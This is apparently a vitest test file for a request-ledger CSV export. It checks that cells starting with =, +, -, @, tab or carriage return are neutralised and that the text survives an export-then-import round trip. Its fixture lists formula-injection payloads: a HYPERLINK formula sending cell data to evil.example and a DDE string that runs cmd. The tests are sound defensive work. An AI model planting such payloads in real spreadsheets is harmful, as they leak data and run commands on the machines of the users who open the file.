import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'drizzle-orm';
import { parse } from 'csv-parse/sync';
import { getTestDb, TEST_KEYS } from '../../../test/db.js';
import type { DbHandle } from '../../db/client.js';
import { SYSTEM_ACTOR, type ServiceContext } from '../context.js';
import { rowsOf } from './common.js';
import { importRequestLedger } from './import-requests.js';
import { exportRequestLedger } from './export-requests.js';
import { neutraliseCsvCell, restoreCsvCell } from './formula-cells.js';

let handle: DbHandle;
let ctx: ServiceContext;
let dir: string;

beforeAll(async () => {
  handle = await getTestDb();
  ctx = { db: handle.db, keys: TEST_KEYS, now: new Date('2026-06-30T04:00:00Z'), today: '2026-06-30', actor: SYSTEM_ACTOR };
  dir = await mkdtemp(join(tmpdir(), 'gk-export-test-'));
});
afterAll(async () => { await rm(dir, { recursive: true, force: true }); });

/** Applicant texts a spreadsheet would run as formulas, and texts that really start with a single quote. */
const DESCRIPTIONS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
  '+86 138 0013 8000 的通话记录',
  '-2024年度征地批复（负号开头）',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  "'单引号开头的申请内容",
  "'=单引号后接等号",
  "''两个单引号",
  '普通申请内容：2024年耕地保护资金分配表',
];

describe('CSV export formula injection (issue 12 item 6)', () => {
  it('neutralises every cell that starts with = + - @ tab CR (and a real leading quote), and restores it exactly', () => {
    for (const s of [...DESCRIPTIONS, '\t制表符开头', '\r回车开头', "'", '=', '']) {
      const out = neutraliseCsvCell(s);
      expect(/^[=+\-@\t\r]/.test(out), out).toBe(false);
      expect(restoreCsvCell(out)).toBe(s);
    }
    expect(neutraliseCsvCell('普通')).toBe('普通');
    expect(neutraliseCsvCell('=1+1')).toBe("'=1+1");
    // A quote typed by hand before ordinary text is the text itself.
    expect(restoreCsvCell("'abc")).toBe("'abc");
  });

  it('exports applicant text as inert cells, and export → import gives back the original text', async () => {
    const ledger = DESCRIPTIONS.map((d, i) => ({
      受理编号: `F-${i + 1}`, 收到日期: '2026-03-02', 申请方式: '网络', 申请人类型: '自然人', 申请人: i === 0 ? '=1+2' : `申请人${i}`, 申请内容: d,
      答复日期: '2026-03-20', 办理结果: '予以公开',
    }));
    const source = join(dir, 'source.json');
    await writeFile(source, JSON.stringify(ledger));
    const first = await importRequestLedger(ctx, source);
    expect({ ok: first.ok, errors: first.errors }).toEqual({ ok: true, errors: [] });
    const stored = async () => rowsOf<{ ref: string; applicant_name: string; description: string }>(await handle.db.execute(sql`SELECT ref, applicant_name, description FROM requests WHERE ref LIKE 'F-%' ORDER BY ref`));
    const original = await stored();
    expect(original.map((r) => r.description).sort()).toEqual([...DESCRIPTIONS].sort());

    const exported = join(dir, 'export.csv');
    expect(await exportRequestLedger(ctx, exported)).toBe(DESCRIPTIONS.length);
    const text = await readFile(exported, 'utf8');
    const cells: string[][] = parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true });
    // No cell of the file would run as a formula (the old export wrote =HYPERLINK(…) as is).
    for (const row of cells) for (const cell of row) expect(/^[=+\-@\t\r]/.test(cell), cell).toBe(false);
    expect(cells.flat()).toContain(`'${DESCRIPTIONS[0]}`);
    expect(cells.flat()).toContain("'=1+2");
    expect(cells.flat()).toContain(`''单引号开头的申请内容`);

    const again = await importRequestLedger(ctx, exported);
    expect({ ok: again.ok, errors: again.errors, updated: again.updated }).toEqual({ ok: true, errors: [], updated: DESCRIPTIONS.length });
    expect(await stored()).toEqual(original);
    const exportedAgain = join(dir, 'export-again.csv');
    await exportRequestLedger(ctx, exportedAgain);
    expect(await readFile(exportedAgain, 'utf8')).toBe(text);
  });
});
